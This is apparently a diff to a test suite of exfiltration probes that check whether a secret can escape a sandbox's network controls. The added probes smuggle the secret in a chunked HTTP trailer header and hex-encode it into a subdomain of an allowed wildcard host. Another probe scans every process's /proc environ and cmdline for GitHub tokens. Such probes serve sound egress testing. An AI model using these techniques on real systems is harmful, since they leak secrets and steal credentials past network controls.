@@ -68,6 +68,18 @@ export const EXFILTRATION: readonly Probe[] = [
     "sends a body in chunks that cut it in two",
     `const half = env.BOUND.length >> 1; const parts = [env.BOUND.slice(0, half), env.BOUND.slice(half)]; await tunnel({ to: env.ALLOWED_HOST + ":443", say: "POST / HTTP/1.1\\r\\nHost: " + env.ALLOWED_HOST + "\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n" + parts.map((part) => part.length.toString(16) + "\\r\\n" + part + "\\r\\n").join("") + "0\\r\\n\\r\\n" })`,
   ),
+  leak(
+    "trailer",
+    "sends it in a header after the body",
+    `await tunnel({ to: env.ALLOWED_HOST + ":443", wanted: env.BOUND, say: "POST / HTTP/1.1\\r\\nHost: " + env.ALLOWED_HOST + "\\r\\nTrailer: X-Note\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\nX-Note: " + env.BOUND + "\\r\\n\\r\\n" })`,
+    // The request is answered, without it.
+    { refused: ["left-out"], isSilent: true },
+  ),
+  leak(
+    "host-name",
+    "writes it into the name of a host, where whatever is below another is allowed",
+    "curl('https://' + Buffer.from(env.BOUND).toString('hex') + '.' + env.WIDE_HOST + '/')",
+  ),
   leak("clear", "sends it over plain HTTP", "curl('http://' + env.CLEAR_HOST + '/?q=' + env.BOUND)"),
   leak(
     "websocket",
@@ -148,10 +160,9 @@ refused("not-in-answer")`,
     {
       invariant: "I2",
       attack: [
-        sh(`tokens=$(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -ao 'gh[p]_[0-9a-f]*' | sort -u)
-for token in $tokens; do sum=$(printf %s "$token" | sha256sum | cut -d' ' -f1)
-  case $sum in "$TOKEN_SHA256"|"$GIT_TOKEN_SHA256") got "one is in the environment of a process" ;; esac
-done; refused "not-found"`),
+        sh(
+          'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | has_token && got "one is in the environment of a process"; refused not-found',
+        ),
       ],
       refused: ["not-found"],
       isSilent: true,
